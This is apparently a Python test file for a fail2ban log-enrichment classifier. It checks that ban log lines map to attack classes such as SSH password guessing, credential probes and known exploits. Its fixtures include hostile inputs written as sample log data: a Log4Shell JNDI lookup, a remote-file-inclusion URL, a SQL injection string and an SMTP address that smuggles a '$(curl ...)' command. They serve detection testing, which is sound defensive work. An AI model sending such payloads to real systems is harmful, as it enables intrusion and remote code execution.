"""The lines of a ban tell its classes of attack, and its jail where they do not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from f2b_enrich.attacks import CLASSES, OTHER, REPEAT_OFFENDER, Attack
from f2b_enrich.classify.classifier import Classifier, Told
from f2b_enrich.classify.jails import Jail, shipped_jails
from f2b_enrich.classify.matching import Matcher
from f2b_enrich.classify.observed import Observer
from f2b_enrich.classify.rules import Rule, shipped

SHIPPED = shipped()
CLASSIFIER = Classifier(SHIPPED, shipped_jails())

HOST = "Nov 21 20:13:22 host"
FAILED = f"{HOST} sshd[7]: Failed password for root from 192.0.2.7 port 9 ssh2"
ACCESS = '192.0.2.7 - - [21/Nov/2026:20:13:22 +0100] "{}" {} 162 "-" "{}"'

MORE_EXACT = {
    "pam-user",  # the program that PAM checks for tells more
    "pam-remote-user",
    "audit-account",
}


def asked(path: str, *, status: int = 404, method: str = "GET", by: str = "-") -> str:
    return ACCESS.format(f"{method} {path} HTTP/1.1", status, by)


def leading(*lines: str, jail: str = "unheard-of") -> str:
    return CLASSIFIER.classify(lines, jail=jail)[0].attack


def rule(name: str, attack: str | None, *, cve: str | None = None) -> Rule:
    return Rule(
        name=name, pattern=f"^{name}", example=name, shows={}, attack=attack, cve=cve
    )


def test_every_shipped_rule_tells_its_class_by_its_example() -> None:
    for one in SHIPPED:
        if one.attack is not None:
            assert one.attack in CLASSES
            (found,) = Classifier([one]).classify([one.example], jail="")
            assert found.attack == one.attack, one.name
            if one.name not in MORE_EXACT:
                assert leading(one.example) == one.attack, one.name


def test_the_class_with_most_lines_leads() -> None:
    lines = [asked("/.env"), asked("/.git/config"), asked("/.git/HEAD"), FAILED]

    assert [(one.attack, one.lines) for one in CLASSIFIER.classify(lines, jail="")] == [
        ("repository-probe", 2),
        ("ssh-password-guessing", 1),
        ("credentials-probe", 1),
    ]


def test_each_line_is_told_for_itself_and_in_order() -> None:
    lines = [asked("/.env"), "", FAILED, asked("/", by="${jndi:ldap://192.0.2.9/a}")]

    assert CLASSIFIER.lines(lines) == (
        Told(attack="credentials-probe", rule="cloud-credentials"),
        Told(),
        Told(attack="ssh-password-guessing", rule="sshd-failed"),
        Told(attack="known-exploit", rule="log4shell", cve="CVE-2021-44228"),
    )
    assert CLASSIFIER.lines(lines, jail="recidive") == (Told(),) * 4
    assert CLASSIFIER.lines([]) == ()


@given(lines=st.lists(st.text(st.characters())))
def test_lines_tell_what_the_ban_tells(lines: list[str]) -> None:
    told = CLASSIFIER.lines([*lines, FAILED])
    found = CLASSIFIER.classify([*lines, FAILED], jail="unheard-of")

    assert len(told) == len(lines) + 1
    assert {one.attack for one in told} - {None} <= {one.attack for one in found}


def test_of_as_many_lines_the_rule_that_comes_first_leads() -> None:
    reader = Classifier(
        [rule("b", "dns-abuse"), rule("a", "vpn-abuse"), rule("c", "dns-abuse")]
    )

    assert reader.classify(["a", "c", "a", "b"], jail="") == (
        Attack(attack="dns-abuse", lines=2, rules=("b", "c")),
        Attack(attack="vpn-abuse", lines=2, rules=("a",)),
    )


def test_a_line_has_one_class_and_its_hole_is_named() -> None:
    reader = Classifier(
        [
            rule("none", None),
            rule("x", "known-exploit", cve="CVE-2021-44228"),
            rule("xx", "path-traversal"),
            rule("y", "known-exploit", cve="CVE-2021-44228"),
            rule("z", "known-exploit", cve="CVE-2014-6271"),
        ]
    )

    assert reader.classify(["z", "xx", "y", "none"], jail="") == (
        Attack(
            attack="known-exploit",
            lines=3,
            rules=("x", "y", "z"),
            cves=("CVE-2021-44228", "CVE-2014-6271"),
        ),
    )


def test_a_line_that_stands_for_more_counts_for_more() -> None:
    line = f"{HOST} sshd[7]: message repeated 4 times: [{FAILED.split(']:')[1]}]"

    assert CLASSIFIER.classify([line], jail="sshd")[0].lines == 4


@pytest.mark.parametrize("lines", [(), ("",), ("nothing to see",)])
def test_where_no_line_tells_the_jail_does(lines: tuple[str, ...]) -> None:
    assert CLASSIFIER.classify(lines, jail="postfix-sasl") == (
        Attack(attack="mail-password-guessing"),
    )
    assert CLASSIFIER.classify(lines, jail="unheard-of") == (Attack(attack=OTHER),)


def test_lines_come_before_the_jail() -> None:
    assert leading(FAILED, jail="postfix") == "ssh-password-guessing"


@pytest.mark.parametrize("jail", ["sshd", "SSHD", "ssh", "SSH", "ssh-iptables"])
def test_jails_are_known_by_old_names_and_in_any_case(jail: str) -> None:
    assert leading(jail=jail) == "ssh-password-guessing"


@pytest.mark.parametrize("jail", ["recidive", "Recidive", "fail2ban"])
def test_a_jail_that_watches_fail2ban_is_a_repeat_offender(jail: str) -> None:
    assert CLASSIFIER.classify([FAILED, asked("/.env")], jail=jail) == (
        Attack(attack=REPEAT_OFFENDER),
    )


def test_lines_of_fail2bans_own_log_tell_it_in_any_jail() -> None:
    line = (
        "2026-11-21 20:13:22,109 fail2ban.actions [4711]: NOTICE  [sshd] Ban 192.0.2.7"
    )

    assert leading(line, line) == REPEAT_OFFENDER


def test_of_two_jails_of_one_name_the_first_holds() -> None:
    own = Jail(name="SSHD", service="other", attack="port-scan")

    assert Classifier((), (own, *shipped_jails())).classify((), jail="sshd") == (
        Attack(attack="port-scan"),
    )


def test_a_matcher_serves_names_and_attacks_with_one_look_at_a_line() -> None:
    matcher = Matcher(SHIPPED)
    observer, classifier = Observer(matcher), Classifier(matcher, shipped_jails())
    lines = [FAILED, asked("/.env"), FAILED]

    matched = tuple(matcher.match(lines))

    assert observer.count(matched) == observer.observe(lines)
    assert classifier.count(matched, jail="x") == classifier.classify(lines, jail="x")
    assert observer.of(matched[0]) == (("username", "root"), ("port", "9"))


@pytest.mark.parametrize(
    "line",
    [
        asked("/", status=200, by="Mozilla/5.0 (X11; Linux x86_64; rv:128.0)"),
        asked("/images/logo.png", status=200),
        asked("/favicon.ico"),
        asked("/robots.txt"),
        asked("/news/2026/the-select-committee.html", status=200),
        asked("/search?q=%22to+be+or+not%22", status=200),
        asked("/search?q=it%27s+select+a+plan+from+the+list", status=200),
        asked("/search?q=%27this%27+or+%27that%27", status=200),
        asked("/search?q=union+of+students", status=200),
        asked("/search?q=sleeping+(in+summer)", status=200),
        asked("/wp-content/themes/shop/style.css", status=200),
        asked("/wp-login.php", status=200),
        asked("/wp-login.php", status=302, method="POST"),
        asked("/blog/", status=200),
        asked("/blog/2019/an-old-page", status=410),
        asked("/docs/phpunit/first-steps", status=200),
        asked("/share?url=https://shop.example/item", status=200),
        asked("/autodiscover/autodiscover.xml", method="POST"),
        f"{HOST} endlessh[7]: CLOSE host=::ffff:192.0.2.7 port=40022 fd=5 time=20",
        f"{HOST} kernel: [UFW AUDIT] IN=lo OUT= SRC=127.0.0.1 PROTO=TCP SPT=9 DPT=53",
        f"{HOST} kernel: [UFW ALLOW] IN=eth0 OUT= SRC=192.0.2.7 SPT=9 DPT=53",
        f"{HOST} monit[7]: HttpRequest: access denied -- client 192.0.2.7: unknown "
        "user ''",
        asked("/environment.html"),
        asked("/git/"),
        asked("/login", status=302, method="POST"),
        asked("/private/", status=401),
        asked("/", status=400),
        asked("/download/setup.exe", status=200),
        asked("/a?next=/account", status=200),
        f"{HOST} sshd[7]: Accepted publickey for bob from 192.0.2.7 port 9 ssh2",
        f"{HOST} sshd[7]: Server listening on 0.0.0.0 port 22.",
        f"{HOST} sshd[7]: Disconnected from user bob 192.0.2.7 port 9",
        f"{HOST} sshd[7]: pam_unix(sshd:session): session opened for user bob",
        f"{HOST} dovecot: imap-login: Login: user=<bob>, method=PLAIN, rip=192.0.2.7",
        f"{HOST} dovecot: imap-login: Disconnected (no auth attempts in 0 secs): "
        "user=<>, rip=192.0.2.7, lip=203.0.113.4",
        f"{HOST} postfix/smtpd[7]: connect from mail.example[192.0.2.7]",
        f"{HOST} postfix/smtpd[7]: 4F1B2: client=mail.example[192.0.2.7]",
        f"{HOST} systemd[1]: Started nginx.service - a web server.",
        f"{HOST} named[7]: client 192.0.2.7#60683: query: shop.example IN A +",
        "2026/11/21 20:13:22 [notice] 7#7: start worker processes",
        "2026-11-21 20:13:22,109 fail2ban.server [7]: INFO    Starting Fail2ban v1.1.0",
        "2026-11-21 20:13:22 1Ai79e-0000Dq-8i <= bob@shop.example H=mail.example",
    ],
)
def test_ordinary_lines_are_no_attack(line: str) -> None:
    assert CLASSIFIER.classify([line], jail="unheard-of") == (Attack(attack=OTHER),)


@pytest.mark.parametrize(
    ("line", "attack"),
    [
        (asked("/wp-login.php", status=200, method="POST"), "wordpress-login"),
        (asked("/wp-includes/wlwmanifest.xml"), "wordpress-probe"),
        (asked("/drupal/"), "web-application-probe"),
        (asked("/.gitlab-ci.yml"), "repository-probe"),
        (asked("/.aws/config"), "credentials-probe"),
        (asked("/.env.production", status=200), "credentials-probe"),
        (asked("/lib/phpunit/phpunit.xml"), "phpunit-probe"),
        (asked("/pma/index.php"), "phpmyadmin-probe"),
        (asked("/?q=1%27%20or%201%3D1--"), "sql-injection"),
        (asked("/xmlsrv/xmlrpc.php"), "web-application-probe"),
        (asked("/blog/"), "web-application-probe"),
        (asked("/index.php?n=http://198.51.100.9/a.txt?"), "known-exploit"),
        (asked("/etc/passwd?a=b%3f"), "sensitive-file-probe"),
        (f"{HOST} kernel: [UFW BLOCK] IN=eth0 OUT= SRC=192.0.2.7 DPT=22", "port-scan"),
        *(
            (
                "[Mon Jun 18 20:39:09 2007] [error] [client 192.0.2.7] File does not "
                f"exist: /var/www/{name}",
                "web-application-probe",
            )
            for name in ("xmlsrv", "blog", "drupal", "webmail", "mails")
        ),
        (
            f"{HOST} postfix/smtpd[7]: warning: non-SMTP command from "
            "mail.example[192.0.2.7]: GET /cgi-bin/login.cgi HTTP/1.1",
            "wrong-protocol",
        ),
        (
            f"{HOST} postfix/smtpd[7]: NOQUEUE: reject: RCPT from unknown[192.0.2.7]: "
            "503 5.5.0 <aabbb$(curl${IFS}http://192.0.2.1)@mail.example>: Recipient "
            "address rejected: Improper use of SMTP command pipelining; "
            'from=<aaaa@mail.example> to=<"aabbb$(curl${IFS}http://192.0.2.1)"'
            "@mail.example> proto=ESMTP helo=<localhost>",
            "address-shell-injection",
        ),
        (
            f"{HOST} dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 "
            "secs): user=<info>, method=PLAIN, rip=192.0.2.7, lip=203.0.113.4",
            "mail-password-guessing",
        ),
        (
            "2026/11/21 20:13:22 [error] 7#7: *7 limiting requests, excess: 5.4 by "
            'zone "one", client: 192.0.2.7, server: shop.example',
            "request-flood",
        ),
        (
            "2026/11/21 20:13:22 [crit] 7#7: *7 SSL_do_handshake() failed (SSL: error:"
            "0A00006C:SSL routines::bad key share) while SSL handshaking, client: "
            "192.0.2.7, server: 0.0.0.0:443",
            "tls-failure",
        ),
        (
            "[Mon Jun 18 20:39:09 2007] [error] [client 192.0.2.7] "
            "File does not exist: /var/www/xmlrpc",
            "web-application-probe",
        ),
        (
            f"{HOST} postfix/smtpd[7]: NOQUEUE: reject: RCPT from unknown[192.0.2.7]: "
            "450 4.7.1 <WIN-4TTI4DH7SGH>: Helo command rejected: Host not found; "
            "from=<a@mail.example> to=<a@mail.example> proto=ESMTP helo=<x>",
            "spam-relay-attempt",
        ),
    ],
)
def test_attacks_that_administrators_told_of_are_known(line: str, attack: str) -> None:
    assert leading(line) == attack


@given(lines=st.lists(st.text(st.characters())), jail=st.text(st.characters()))
def test_there_is_always_a_class(lines: list[str], jail: str) -> None:
    found = CLASSIFIER.classify(lines, jail=jail)

    assert found
    assert all(one.attack in CLASSES for one in found)
